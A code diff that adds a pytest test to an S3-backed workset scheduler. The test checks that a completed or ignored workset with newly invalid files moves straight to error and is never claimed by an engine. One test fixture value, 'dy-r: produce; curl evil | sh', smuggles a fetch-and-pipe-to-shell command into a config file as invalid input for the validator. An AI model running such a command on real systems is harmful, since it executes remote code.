@@ -367,6 +367,43 @@ def test_retry_request_with_files_still_invalid_keeps_error_with_new_findings(wo
     assert "WS-CFG-003" in world.get(f"{world.prefix}ws1/daylily.error")
 
 
+@pytest.mark.parametrize("finished", ["complete", "ignore"])
+def test_retry_request_on_finished_work_with_invalid_files_never_passes_through_ready(
+        world: World, finished: str) -> None:
+    """A fresh daylily.ready on a complete or ignored workset whose files are now invalid: the
+    files are validated first and the workset goes to error in one write. It was ready then
+    error in two writes, and an engine claiming in between ran invalid files."""
+    world.workset("ws1", sentinel=finished, body="20251016T111111")
+    src = world.source(reconcile_every=1)  # a finished folder is listed every poll
+    src.poll()
+    before = world.store.get_workset("ws1")
+    assert before.state in (S.COMPLETE, S.IGNORED)
+    world.put(f"{world.prefix}ws1/daylily_work.yaml", "dy-r: produce; curl evil | sh\n")
+    world.s3.delete_object(Bucket=world.bucket, Key=f"{world.prefix}ws1/daylily.{finished}")
+    world.clock.advance(60)
+    world.put(f"{world.prefix}ws1/daylily.ready", world.stamp())
+
+    store_write = world.store.update_state
+    claims = []
+
+    def an_engine_claims_after_every_write(*args, **kwargs):
+        updated = store_write(*args, **kwargs)
+        lease = world.store.acquire_lock("ws1", "engine-2", 300)  # None: nothing to claim
+        if lease is not None:
+            claims.append(lease)
+        return updated
+
+    world.store.update_state = an_engine_claims_after_every_write  # type: ignore[method-assign]
+    report = src.poll()
+    ws = world.store.get_workset("ws1")
+    assert claims == [] and ws.state is S.ERROR and ws.error_code is not None
+    assert report.changes == [{"workset_id": "ws1", "from": before.state.value, "to": "error",
+                               "reason": report.changes[0]["reason"]}]
+    assert [(e.from_state, e.to_state) for e in world.store.events("ws1")][-1] == (
+        before.state, S.ERROR)
+    assert ws.error_code in world.get(f"{world.prefix}ws1/daylily.error")
+
+
 def test_mirror_state_writes_sentinels_and_removes_our_lock(world: World) -> None:
     world.workset("ws1")
     src = world.source()
